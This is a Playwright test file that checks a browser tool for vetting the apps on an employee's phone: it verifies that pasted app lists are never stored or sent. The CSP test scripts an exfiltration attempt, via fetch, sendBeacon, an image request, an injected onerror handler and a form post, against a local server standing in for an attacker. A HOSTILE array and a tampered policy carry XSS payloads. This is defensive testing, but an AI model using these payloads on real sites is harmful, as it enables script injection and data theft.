// The privacy promise, proven in Debian's Chromium: what an employee pastes and answers
// is never stored or sent, the page's Content-Security-Policy blocks a script that tries,
// and hostile text in a list or a policy stays inert text.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { serve, launch, publish, repo, builtSite, checkOnPhone } from './harness.mjs';

let site;
let browser;
let catcher; // another origin, standing in for an attacker's server
const caught = [];

before(async () => {
  site = await serve();
  browser = await launch();
  catcher = http.createServer((req, res) => {
    caught.push(`${req.method} ${req.url}`);
    res.end('ok');
  });
  await new Promise((resolve) => catcher.listen(0, '127.0.0.1', resolve));
});

after(async () => {
  await browser?.close();
  site?.stop();
  catcher?.close();
});

const catcherUrl = () => `http://127.0.0.1:${catcher.address().port}`;

/** Records every write to storage, cookies and history, from before the page's own scripts. */
function recordWrites() {
  const writes = [];
  window.__writes = writes;
  const wrap = (object, name, label) => {
    const original = object[name];
    object[name] = function (...args) {
      writes.push(`${label}(${args.map(String).join(', ').slice(0, 200)})`);
      return original.apply(this, args);
    };
  };
  wrap(Storage.prototype, 'setItem', 'storage.setItem');
  wrap(history, 'pushState', 'history.pushState');
  wrap(history, 'replaceState', 'history.replaceState');
  wrap(IDBFactory.prototype, 'open', 'indexedDB.open');
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
  Object.defineProperty(document, 'cookie', {
    get: () => cookie.get.call(document),
    set: (value) => { writes.push(`document.cookie=${value}`); cookie.set.call(document, value); },
  });
  if (navigator.serviceWorker) wrap(navigator.serviceWorker, 'register', 'serviceWorker.register');
  if (window.caches) wrap(CacheStorage.prototype, 'open', 'caches.open');
}

test('a full check stores nothing, sends nothing and leaves the URL alone', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.addInitScript(recordWrites);
  // Every request of the context: the page's, and its service worker's.
  const requests = [];
  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() ?? '' }));
  await page.goto(`${site.url}#policy=bank-tiktok-2020`);
  await page.locator('#check-form').waitFor();
  // The check runs with the service worker in control, so it would see anything sent.
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const url = page.url();
  const secret = 'Private-Diary-93af';
  await page.check('#device-phone');
  await page.check('#ownership-company');
  await page.fill('#app-list', `${secret}\ntiktk\nSlack\n`);
  await page.click('#check');
  await page.getByRole('button', { name: 'Yes, it is TikTok' }).click();
  await page.waitForFunction(() => document.querySelector('#overall')?.dataset.answer === 'action_required');

  // What is stored: the version of each policy shown (rollback protection), and the
  // page's service worker (offline use), registered by the page's own script.
  // The version is kept under what vouched for it: here, unsigned, the policy's URL.
  assert.deepEqual(await page.evaluate(() => window.__writes), [
    `storage.setItem(appcheck-policy-versions, {"url:${site.url}policies/bank-tiktok-2020.json bank-tiktok-2020":1})`,
    'serviceWorker.register(sw.js)',
  ], 'no storage, cookie or history writes but the policy versions and the service worker');
  assert.deepEqual(await page.evaluate(() => Object.keys(localStorage)), ['appcheck-policy-versions']);
  assert.equal(await page.evaluate(() => sessionStorage.length), 0);
  assert.doesNotMatch(await page.evaluate(() => localStorage.getItem('appcheck-policy-versions')), /Diary|tiktk|Slack|phone|company/);
  assert.deepEqual(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name)), []);
  assert.deepEqual(await context.cookies(), []);
  assert.equal(page.url(), url, 'the URL is what the help-desk link said, nothing more');
  const origin = new URL(site.url).origin;
  assert.ok(requests.some((r) => new URL(r.url).pathname === '/sw.js'), "the service worker's requests are recorded too");
  for (const r of requests) {
    const { pathname, search } = new URL(r.url);
    assert.equal(new URL(r.url).origin, origin, r.url);
    assert.equal(r.method, 'GET', r.url);
    // Only the site's own files, by their published names (`army-phones-2019.json` is one).
    assert.ok(fs.statSync(path.join(builtSite, pathname.endsWith('/') ? `${pathname}index.html` : pathname)).isFile(), r.url);
    assert.equal(search, '', r.url);
    for (const needle of [secret, 'tiktk', 'Slack', 'company', 'phone']) {
      assert.ok(!r.body.includes(needle), `a request carried ${needle}: ${r.url}`);
    }
    for (const needle of [secret, 'tiktk', 'Slack']) {
      assert.ok(!r.url.includes(needle), `a request carried ${needle}: ${r.url}`);
    }
  }
  // The service worker's Cache Storage holds the site's own files as the server sent
  // them (GETs, same origin), and nothing of what was pasted or answered.
  const cached = await page.evaluate(async () => {
    const entries = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const response = await cache.match(request);
        entries.push({
          url: request.url,
          method: request.method,
          request: JSON.stringify([...request.headers]),
          response: JSON.stringify([...response.headers]),
          body: new TextDecoder('latin1').decode(await response.arrayBuffer()),
        });
      }
    }
    return entries;
  });
  assert.ok(cached.length > 0, 'the service worker cached the site');
  for (const entry of cached) {
    assert.equal(new URL(entry.url).origin, origin, entry.url);
    assert.equal(entry.method, 'GET', entry.url);
    assert.equal(new URL(entry.url).search, '', entry.url);
    for (const needle of [secret, 'tiktk', 'Private-Diary']) {
      for (const part of ['url', 'request', 'response', 'body']) {
        assert.ok(!entry[part].includes(needle), `the cached ${entry.url} (${part}) holds ${needle}`);
      }
    }
  }
  await context.close();
});

test("downloading an export's answers as CSV is made in the page and sends nothing", async () => {
  const context = await browser.newContext({ acceptDownloads: true });
  const page = await context.newPage();
  const violations = [];
  await page.exposeFunction('__violation', (v) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => window.__violation(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const requests = [];
  // The service worker caches the site's own pages in the background (GETs of the site's
  // files, sent whenever it installs): kept apart, and still searched for the secrets.
  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() ?? '', worker: !!r.serviceWorker() }));
  await page.goto(`${site.url}#policy=bank-tiktok-2020`);
  await page.locator('#check-form').waitFor();
  // An Intune export whose device and user are secrets of their own.
  const secret = 'Secret-Device-7f3a';
  const list = fs.readFileSync(path.join(repo, 'tests/fixtures/fleet/intune-appinvrawdata.csv'), 'utf8')
    .replaceAll("Priya's iPhone", secret).replaceAll('Priya Nair', 'Hidden-User-51c2');
  await page.check('#device-phone');
  await page.check('#ownership-company');
  await page.fill('#app-list', list);
  await page.click('#check');
  await page.locator('#device-table tbody tr[data-kind]').first().waitFor();
  const before = requests.length;
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#download-devices')]);
  const csv = fs.readFileSync(await download.path(), 'utf8');
  assert.match(csv, new RegExp(`^\ufeffdevice,serial,user,.*\r\n${secret},.*,Hidden-User-51c2,`, 's'), 'the file holds the export\'s answers');
  await page.waitForTimeout(500);
  // The download is a blob: URL of the page's own memory: no request at all.
  assert.deepEqual(requests.slice(before).filter((r) => !r.worker).map((r) => r.url), [], 'the download made a request');
  assert.ok(requests.slice(before).every((r) => r.method === 'GET' && r.url.startsWith(site.url)), 'the service worker only fetched the site\'s own files');
  for (const r of requests) {
    for (const needle of [secret, 'Hidden-User-51c2']) {
      assert.ok(!r.url.includes(needle) && !r.body.includes(needle), `a request carried ${needle}: ${r.url}`);
    }
  }
  assert.deepEqual(violations, [], 'the CSP allows the download as it is');
  await context.close();
});

test('the Content-Security-Policy blocks a script that tries to send the list elsewhere', async () => {
  const page = await browser.newPage();
  const violations = [];
  await page.exposeFunction('__violation', (v) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => window.__violation(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.goto(`${site.url}#policy=bank-tiktok-2020`);
  await page.locator('#check-form').waitFor();
  await page.fill('#app-list', 'TikTok\nPrivate-Diary-93af\n');
  const target = catcherUrl();
  const outcome = await page.evaluate(async (target) => {
    const list = document.querySelector('#app-list').value;
    const results = {};
    try {
      await fetch(`${target}/fetch?list=${encodeURIComponent(list)}`, { method: 'POST', body: list, mode: 'no-cors' });
      results.fetch = 'sent';
    } catch (e) {
      results.fetch = 'blocked';
    }
    results.beacon = navigator.sendBeacon(`${target}/beacon`, list) ? 'queued' : 'refused';
    new Image().src = `${target}/image?list=${encodeURIComponent(list)}`;
    // An injected inline handler, as an XSS would try.
    document.body.insertAdjacentHTML('beforeend', `<img src="x" onerror="fetch('${target}/inline')">`);
    const form = Object.assign(document.createElement('form'), { action: `${target}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return results;
  }, target);

  assert.equal(outcome.fetch, 'blocked');
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.deepEqual(caught, [], 'the other server received nothing');
  const directives = violations.map((v) => v.split(' ')[0]);
  for (const directive of ['connect-src', 'img-src', 'script-src-attr', 'form-action']) {
    assert.ok(directives.includes(directive), `no ${directive} violation in ${JSON.stringify(violations)}`);
  }
  await page.close();
});

test('the page and its server send a strict Content-Security-Policy', async () => {
  const response = await fetch(site.url);
  const header = response.headers.get('content-security-policy');
  const html = await response.text();
  const meta = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
  for (const [where, csp] of [['header', header], ['meta tag', meta]]) {
    assert.ok(csp, `no CSP ${where}`);
    const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(' ')]));
    assert.equal(directives['default-src'], "'none'", where);
    assert.equal(directives['script-src'], "'self' 'wasm-unsafe-eval'", where);
    assert.equal(directives['connect-src'], "'self'", where);
    assert.equal(directives['object-src'], "'none'", where);
    assert.equal(directives['base-uri'], "'none'", where);
    assert.equal(directives['form-action'], "'none'", where);
    assert.ok(!/unsafe-inline|unsafe-eval'|\*/.test(csp.replace("'wasm-unsafe-eval'", '')), `${where}: ${csp}`);
  }
  assert.equal(response.headers.get('set-cookie'), null, 'no cookies');
  assert.ok(!/https?:\/\/(?!127\.0\.0\.1)/.test(html.replace(/<meta[^>]*>/g, '')), 'no third-party resource in the page');
});

const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '"><img src=x onerror="window.__pwned=2">',
  '<a href="javascript:window.__pwned=3">TikTok</a>',
  '\u202eTikTok\u202c moc.live',
  'Tik\u0000Tok\u0007\u001b[31m',
  '&lt;b&gt;bold&lt;/b&gt; &amp; TikTok',
  'x'.repeat(100000),
  '{{constructor.constructor("window.__pwned=4")()}}',
  '\ud800 lone surrogate TikTok',
];

test('hostile text in a list is shown as text: no markup, no script', async () => {
  const page = await browser.newPage();
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  await page.goto(`${site.url}#policy=party-advice-2020`);
  await page.locator('#check-form').waitFor();
  await page.evaluate((text) => { document.querySelector('#app-list').value = text; }, HOSTILE.join('\n'));
  await page.click('#check');
  await page.locator('#overall').waitFor();
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.equal(await page.locator('#result img, #result script, #result a[href^="javascript"]').count(), 0);
  assert.match(await page.textContent('#not-covered'), /<script>window.__pwned = 1<\/script>/);
  assert.match(await page.textContent('#notes'), /longer than 512 characters/);
  assert.deepEqual(dialogs, []);
  await page.close();
});

test('bidi overrides and invisible characters in a pasted name are shown, and stay inside the name', async () => {
  // "Tik\u202eTok" is TikTok; without isolation its right-to-left override ran on into
  // the page's own words (the verdict read "evomeR", placed left of the name), and
  // "App \u202ekoTkiT" read as "App TikTok" under "Not in this policy".
  const page = await browser.newPage({ viewport: { width: 800, height: 900 } });
  await page.goto(`${site.url}#policy=bank-tiktok-2020`);
  await checkOnPhone(page, 'Tik\u202eTok\nApp \u202ekoTkiT\nSla\u200bck\nSlack\u2067\n');
  const bidi = /[\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
  // The card is headed by the app's name; what was pasted is in the help desk's details,
  // its override written visibly and isolated.
  const finding = page.locator('#findings .finding').first();
  assert.equal(await finding.locator('h3').textContent(), 'TikTok');
  assert.equal(await finding.locator('h3').evaluate((e) => getComputedStyle(e).unicodeBidi), 'isolate');
  const pasted = finding.locator('details.help-desk dd').first();
  assert.equal(await pasted.textContent(), 'Tik<U+202E>Tok');
  assert.equal(await pasted.evaluate((e) => getComputedStyle(e).unicodeBidi), 'isolate');
  // The verdict reads "Remove", as the page wrote it, under the name.
  const verdict = finding.locator('.verdict');
  assert.equal(await verdict.textContent(), 'Remove');
  const [n, v] = [await finding.locator('h3').boundingBox(), await verdict.boundingBox()];
  assert.ok(v.y >= n.y + n.height - 1, `the verdict (y ${v.y}) is under the name (ends at ${n.y + n.height})`);
  await page.click('#not-covered summary');
  const uncovered = await page.locator('#not-covered li').allTextContents();
  assert.ok(uncovered.includes('App <U+202E>koTkiT'), JSON.stringify(uncovered));
  assert.ok(uncovered.includes('Sla<U+200B>ck'), JSON.stringify(uncovered));
  // (The page's own isolation of a policy's contact inside its sentence is a pair of
  // first strong isolate … pop directional isolate: taken out before looking.)
  const answer = (await page.textContent('#result')).replace(/\u2068([^\u2068\u2069]*)\u2069/g, '$1');
  assert.doesNotMatch(answer, bidi, 'no bidi or invisible character left in the answer');
  await page.close();
});

test('hostile text in a policy is shown as text too', async () => {
  const bank = JSON.parse(fs.readFileSync(path.join(repo, 'pkg-config/policies/bank-tiktok-2020.json'), 'utf8'));
  bank.title = '<img src=x onerror="window.__pwned=5">Remove TikTok';
  bank.summary = '<script>window.__pwned=6</script>\u202eevil';
  bank.rules[0].reason = '<iframe src="javascript:window.__pwned=7"></iframe>';
  const dir = publish({ 'bank-tiktok-2020': 'bank-tiktok-2020.json' }, 'bank-tiktok-2020');
  fs.writeFileSync(path.join(dir, 'policies/bank-tiktok-2020.json'), JSON.stringify(bank));
  const hostile = await serve(dir);
  try {
    const page = await browser.newPage();
    await page.goto(hostile.url);
    await page.locator('#check-form').waitFor();
    await checkOnPhone(page, 'TikTok\n');
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    assert.equal(await page.locator('#appcheck img, #appcheck script, #appcheck iframe').count(), 0);
    assert.match(await page.textContent('#policy-title'), /^<img src=x onerror/);
    await page.close();
  } finally {
    hostile.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('a 50 MB paste gets a clear limit message and the tab stays responsive', async () => {
  const page = await browser.newPage();
  await page.goto(`${site.url}#policy=party-advice-2020`);
  await page.locator('#check-form').waitFor();
  await page.evaluate(() => {
    const line = 'Some Ordinary App With A Long Name 1234567890\n';
    document.querySelector('#app-list').value = line.repeat(Math.ceil(50e6 / line.length));
  });
  // Submitted as the Enter key does; Playwright's click would first wait on laying out
  // the 50 MB textarea, which is the browser's cost of the paste, not the check's.
  // Meanwhile the page stays responsive: a task queued 50 ms after submitting runs
  // long before the answer arrives (on the main thread, the check would block it).
  const { took, freeAt } = await page.evaluate(() => new Promise((resolve) => {
    const started = performance.now();
    let freeAt = null;
    setTimeout(() => { freeAt = Math.round(performance.now() - started); }, 50);
    const seen = new MutationObserver(() => {
      if (document.querySelector('#overall')) {
        seen.disconnect();
        resolve({ took: Math.round(performance.now() - started), freeAt });
      }
    });
    seen.observe(document.querySelector('#result'), { childList: true });
    document.querySelector('#check-form').requestSubmit();
  }));
  assert.equal(await page.getAttribute('#overall', 'data-answer'), 'incomplete');
  assert.match(await page.textContent('#notes'), /longer than appcheck reads at once/);
  assert.ok(freeAt !== null && freeAt < took, `the page was free at ${freeAt} ms, the answer came at ${took} ms`);
  assert.match(await page.textContent('#not-covered'), /… and \d+ more/);
  console.log(`50 MB paste: answered in ${took} ms (measured, not asserted)`);
  await page.close();
});
